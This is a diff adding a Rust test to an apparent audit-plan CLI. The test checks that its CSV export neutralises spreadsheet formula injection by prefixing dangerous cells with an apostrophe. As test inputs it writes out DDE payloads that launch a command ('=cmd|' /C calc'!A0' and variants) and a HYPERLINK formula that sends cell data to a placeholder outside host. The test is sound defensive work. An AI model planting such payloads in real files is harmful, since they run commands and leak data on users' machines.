@@ -2097,3 +2097,63 @@ fn an_extension_that_is_not_the_format_s_is_refused() {
     );
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+/// A plan whose texts start like spreadsheet formulas writes no cell that opens as one.
+#[test]
+fn plan_csv_writes_no_formula() {
+    let dir = temp_dir("plan-formulas");
+    let formulas = [
+        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Cliquer\")",
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "\t=1+1",
+        "=1+1",
+    ];
+    let mut audit = toulon_with_nc_min_on_17();
+    let fiche = &mut audit.ecarts[0];
+    fiche.finding = formulas[0].to_owned();
+    fiche.requirement = formulas[1].to_owned();
+    fiche.corrective_action = Some(formulas[2].to_owned());
+    fiche.leader = Some(formulas[3].to_owned());
+    let mut extra = fiche.clone();
+    extra.target = qualepref::EcartTarget::Engagement(audit.assessments[17].engagement);
+    extra.finding = formulas[4].to_owned();
+    extra.corrective_action = Some(formulas[5].to_owned());
+    extra.leader = Some(formulas[6].to_owned());
+    audit.assessments[17].verdict = Some(qualepref::Verdict::MinorNonconformity);
+    audit.ecarts.push(extra);
+    let file = write(&dir, "formulas.json", &ok(audit.to_json_string()));
+    let output = run(
+        &["plan", &file, "--at", "2020-03-01", "--format", "csv"],
+        "",
+    );
+    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+    let csv = stdout(&output);
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(true)
+        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        cells.extend(ok(record).iter().map(str::to_owned));
+    }
+    assert!(cells.len() > 40, "{csv}");
+    for cell in &cells {
+        // A number (days left: -12) opens as a number.
+        if cell.parse::<i64>().is_err() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell opens as a formula: {cell:?}\n{csv}"
+            );
+        }
+    }
+    for formula in formulas {
+        assert!(
+            cells.contains(&format!("'{formula}")),
+            "{formula:?} not written neutralised:\n{csv}"
+        );
+    }
+    let _ = std::fs::remove_dir_all(&dir);
+}
